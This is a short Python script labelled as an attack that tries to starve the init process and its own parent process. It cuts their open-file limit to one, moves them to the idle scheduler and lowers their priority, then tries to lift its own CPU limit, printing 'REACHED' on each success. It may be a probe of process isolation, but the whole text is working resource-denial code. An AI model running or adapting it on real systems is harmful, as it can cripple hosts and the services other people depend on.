# attack: takes processors, priorities and memory away from others
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for attempt in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (1, 1)),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
    ):
        try:
            attempt()
            print("REACHED", pid)
        except OSError:
            pass
try:
    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("REACHED limit")
except (OSError, ValueError):
    pass
